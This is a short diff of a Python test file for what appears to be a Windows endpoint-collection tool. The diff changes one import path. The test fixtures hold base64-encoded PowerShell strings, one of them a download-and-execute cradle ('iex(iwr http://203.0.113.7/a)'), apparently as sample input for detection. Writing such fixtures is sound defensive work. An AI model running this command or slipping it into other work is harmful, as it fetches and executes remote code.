@@ -4,7 +4,7 @@ import base64
 
 import pytest
 
-from quetsach.endpoint.collect.windows.interpreter import Given, given_to_run
+from quetsach.endpoint.collect.windows.commands import Given, given_to_run
 
 ENCODED = base64.b64encode(r"& 'C:\Users\An\AppData\x.ps1' -q".encode("utf-16-le")).decode()
 DOWNLOAD = base64.b64encode("iex(iwr http://203.0.113.7/a)".encode("utf-16-le")).decode()
